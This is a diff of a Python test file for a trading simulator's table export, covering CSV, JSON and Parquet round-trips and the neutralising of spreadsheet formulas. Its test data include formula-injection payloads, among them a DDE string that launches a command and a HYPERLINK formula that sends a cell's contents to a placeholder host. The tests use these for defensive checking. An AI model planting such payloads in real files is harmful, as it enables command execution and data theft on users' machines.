@@ -1,4 +1,4 @@
-"""Tables as bytes: read back by other programs, and safe to open in a spreadsheet."""
+"""Check that other programs read back the bytes of a table, and that a spreadsheet opens them safely."""
 
 from __future__ import annotations
 
@@ -20,7 +20,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from exporting.files import ExportError
-from exporting.table import VERSION, Format, Table, neutralise
+from exporting.table import VERSION, Format, Table, neutralise_formulas
 from tests.support.paths import PROJECT
 
 COMMANDS = ["1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://a.example?"&A1,"x")', "SUM(A1:A9)", "IMPORTXML(A1,B1)"]
@@ -99,25 +99,27 @@ def tables(draw: st.DrawFn, texts: st.SearchStrategy[str] = plain_text) -> pa.Ta
 
 @settings(max_examples=150, deadline=None)
 @given(tables())
-def test_csv_is_the_same_table_again(rows: pa.Table) -> None:
-    """pandas reads every number, to the last digit, in its own type, and every text back without being told how."""
-    content = Table(rows.set_column(3, "text", [[neutralise(text) for text in rows["text"].to_pylist()]]), {}).csv()
+def test_csv_is_read_back_as_the_same_table(rows: pa.Table) -> None:
+    """pandas reads every number to the last digit, in its own type, and every text, without any option."""
+    content = Table(
+        rows.set_column(3, "text", [[neutralise_formulas(text) for text in rows["text"].to_pylist()]]), {}
+    ).csv()
     expected = rows.to_pandas()
-    expected["text"] = [neutralise(text) for text in expected["text"]]
+    expected["text"] = [neutralise_formulas(text) for text in expected["text"]]
     pd.testing.assert_frame_equal(pd.read_csv(io.BytesIO(content)), expected, check_exact=True)
 
 
 @settings(max_examples=150, deadline=None)
 @given(tables(st.text(st.characters(exclude_categories=["Cs"]), max_size=12)))
-def test_json_is_the_same_table_again(rows: pa.Table) -> None:
-    """Any text and any number survive as strict JSON, one object a row; what is unknown is null."""
+def test_json_is_read_back_as_the_same_table(rows: pa.Table) -> None:
+    """Any text and any number survive as strict JSON, one object a row; an unknown value is null."""
     assert strict_json(Table(rows, {}).json()) == rows.to_pylist()
 
 
 @settings(max_examples=50, deadline=None)
 @given(tables())
-def test_parquet_is_the_same_table_again(rows: pa.Table) -> None:
-    """Types, nulls and texts as they were, and what explains them inside."""
+def test_parquet_is_read_back_as_the_same_table(rows: pa.Table) -> None:
+    """Types, nulls and texts are as they were, and the description is inside the file."""
     read = pa.parquet.read_table(io.BytesIO(Table(rows, {"kind": "a test"}).parquet()))
     assert read.replace_schema_metadata(None).equals(rows)
     assert strict_json(read.schema.metadata[b"trade_simulator"]) == {
@@ -126,45 +128,45 @@ def test_parquet_is_the_same_table_again(rows: pa.Table) -> None:
     }
 
 
-def test_json_has_no_word_for_infinity() -> None:
-    """Neither rows nor what explains them hold NaN or an infinity, which JSON does not know."""
+def test_json_writes_null_for_nan_and_infinity() -> None:
+    """Neither the rows nor the description hold NaN or an infinity, which JSON does not know."""
     table = Table(pa.table({"x": [math.inf, -math.inf, 1.5, math.nan]}), {"worst": math.inf, "in": [{"it": math.nan}]})
     assert strict_json(table.json()) == [{"x": None}, {"x": None}, {"x": 1.5}, {"x": None}]
     about = strict_json(table.about_json())
     assert (about["worst"], about["in"]) == (None, [{"it": None}])
 
 
-def test_many_rows_are_all_there() -> None:
-    """More rows than are made into JSON at a time come out once each, in order."""
-    rows = pa.table({"at": pa.array(range(12_345)), "half": pa.array([at / 2 for at in range(12_345)])})
+def test_json_holds_more_rows_than_a_batch() -> None:
+    """More rows than are turned into JSON at a time come out once each, in order."""
+    rows = pa.table({"row": pa.array(range(12_345)), "half": pa.array([row / 2 for row in range(12_345)])})
     assert strict_json(Table(rows, {}).json()) == rows.to_pylist()
     assert strict_json(Table(rows.slice(0, 0), {}).json()) == []
-    assert Table(rows.slice(0, 0), {}).csv() == b'"at","half"\n'
+    assert Table(rows.slice(0, 0), {}).csv() == b'"row","half"\n'
 
 
-def test_there_are_many_payloads() -> None:
-    """Over fifty different ones."""
+def test_formula_payloads_are_many() -> None:
+    """There are over fifty different ones."""
     assert len(set(PAYLOADS)) >= 50
 
 
 @pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
 @pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
-def test_a_formula_is_neutralised(payload: str, delimiter: str) -> None:
-    """No cell begins a formula, whatever a spreadsheet takes for the end of a cell; the rest of the text is kept."""
+def test_formula_is_neutralised_in_csv(payload: str, delimiter: str) -> None:
+    """No cell begins a formula, whatever a spreadsheet takes for the end of a cell. The rest of the text is kept."""
     table = Table(pa.table({"n": [-1.5], "text": [payload]}), {})
     (cell,) = [row["text"] for row in csv.DictReader(io.StringIO(table.csv().decode(), newline=""))]
-    for part in cell.replace("\r", delimiter).replace("\n", delimiter).split(delimiter):
-        assert part.strip(" \u00a0\ufeff")[:1] not in set(SIGNS), f"{cell!r} runs {part!r}"
+    for piece in cell.replace("\r", delimiter).replace("\n", delimiter).split(delimiter):
+        assert piece.strip(" \u00a0\ufeff")[:1] not in set(SIGNS), f"{cell!r} runs {piece!r}"
     assert cell.replace("'", "") == payload.replace("'", "")
 
 
 @pytest.mark.parametrize("text", HARMLESS)
-def test_a_harmless_text_is_left_alone(text: str) -> None:
-    """Signs within a text are no formula."""
-    assert neutralise(text) == text
+def test_harmless_text_is_not_changed(text: str) -> None:
+    """A sign within a text begins no formula."""
+    assert neutralise_formulas(text) == text
 
 
-def test_only_text_in_csv_is_neutralised() -> None:
+def test_numbers_and_other_formats_are_not_neutralised() -> None:
     """Negative numbers stay numbers; JSON and Parquet keep the text as it is."""
     table = Table(pa.table({"loss_bps": [-1.5, -2.0], "text": ["=1+1", "+2"]}), {})
     assert table.csv() == b'"loss_bps","text"\n-1.5,"\'=1+1"\n-2,"\'+2"\n'
@@ -172,21 +174,21 @@ def test_only_text_in_csv_is_neutralised() -> None:
     assert pa.parquet.read_table(io.BytesIO(table.parquet()))["text"].to_pylist() == ["=1+1", "+2"]
 
 
-def test_a_dangerous_header_is_neutralised() -> None:
-    """A column's name is a cell as well."""
+def test_formula_in_a_header_is_neutralised() -> None:
+    """The name of a column is a cell as well."""
     assert Table(pa.table({"=1+1": [1]}), {}).csv() == b'"\'=1+1"\n1\n'
 
 
 @pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
-def test_other_programs_read_it_without_a_hint(tmp_path: Path, fmt: Format) -> None:
-    """DuckDB and pandas open the file by its name alone: all rows, numbers as numbers, texts as texts."""
+def test_duckdb_and_pandas_read_a_file_without_options(tmp_path: Path, fmt: Format) -> None:
+    """Both open the file by its name alone, and find all rows, numbers as numbers and texts as texts."""
     rows = pa.table(
         {
-            "market_ns": pa.array([1_747_300_000_123_456_789 + at for at in range(500)]),
-            "market_utc": [f"2025-05-15 09:06:{at % 60:02d}.123456" for at in range(500)],
-            "cost_bps": [None if at % 7 == 0 else at / 3 for at in range(500)],
+            "market_ns": pa.array([1_747_300_000_123_456_789 + row for row in range(500)]),
+            "market_utc": [f"2025-05-15 09:06:{row % 60:02d}.123456" for row in range(500)],
+            "cost_bps": [None if row % 7 == 0 else row / 3 for row in range(500)],
             "whole_s": [300.0] * 500,
-            "tier": ["VIP 1, \"best\"; 'x'\n2nd line" if at % 2 else "Regular" for at in range(500)],
+            "tier": ["VIP 1, \"best\"; 'x'\n2nd line" if row % 2 else "Regular" for row in range(500)],
         }
     )
     path = Table(rows, {}).save(tmp_path, "run", fmt)
@@ -208,8 +210,8 @@ def test_other_programs_read_it_without_a_hint(tmp_path: Path, fmt: Format) -> N
     assert frame["tier"].tolist() == rows["tier"].to_pylist()
 
 
-def test_a_plain_csv_reader_guesses_the_form() -> None:
-    """What the standard library's sniffer takes for the delimiter and the quotes is right."""
+def test_csv_sniffer_detects_delimiter_and_quotes() -> None:
+    """The standard library's sniffer finds the right delimiter and quotes."""
     content = Table(pa.table({"a_bps": [1.5, -2.25], "text": ["x, y", 'q"q']}), {}).csv().decode()
     assert list(csv.reader(io.StringIO(content), csv.Sniffer().sniff(content))) == [
         ["a_bps", "text"],
@@ -218,8 +220,8 @@ def test_a_plain_csv_reader_guesses_the_form() -> None:
     ]
 
 
-def test_a_file_has_what_explains_it(tmp_path: Path) -> None:
-    """CSV and JSON beside it; Parquet within, and no second file."""
+def test_saved_file_has_its_description(tmp_path: Path) -> None:
+    """Beside CSV and JSON lies a second file; Parquet holds its description within."""
     table = Table(pa.table({"x": [1]}), {"kind": "a test", "venue": "okx"})
     for fmt in ("csv", "json", "parquet"):
         folder = tmp_path / fmt
@@ -231,8 +233,8 @@ def test_a_file_has_what_explains_it(tmp_path: Path) -> None:
     assert about == {"software": f"trade-simulator {VERSION}", "kind": "a test", "venue": "okx"}
 
 
-def test_saving_refuses_before_it_writes(tmp_path: Path) -> None:
-    """A bad name, an unknown format or a file that is there: an error, and the folder stays as it was."""
+def test_refused_save_changes_nothing(tmp_path: Path) -> None:
+    """A bad name, an unknown format or an existing file gives an error, and the folder stays as it was."""
     table = Table(pa.table({"x": [1]}), {})
     table.save(tmp_path, "run", "csv")
     before = {path: path.read_bytes() for path in tmp_path.rglob("*")}
@@ -248,13 +250,13 @@ def test_saving_refuses_before_it_writes(tmp_path: Path) -> None:
     table.save(tmp_path, "run.csv", "csv", overwrite=True)
 
 
-def test_a_column_of_neither_numbers_nor_text_is_refused() -> None:
-    """The column is named."""
+def test_table_refuses_a_column_of_another_type() -> None:
+    """The error names the column."""
     with pytest.raises(ExportError, match=r"'when' holds timestamp"):
         Table(pa.table({"when": pa.array([0], pa.timestamp("ns"))}), {})
 
 
-def test_the_version_is_the_projects() -> None:
-    """What files say made them is what pyproject.toml says this is."""
+def test_version_is_that_of_the_project() -> None:
+    """Files name the software as pyproject.toml does."""
     project = tomllib.loads((PROJECT / "pyproject.toml").read_text())["project"]
     assert (project["name"], project["version"]) == ("trade-simulator", VERSION)
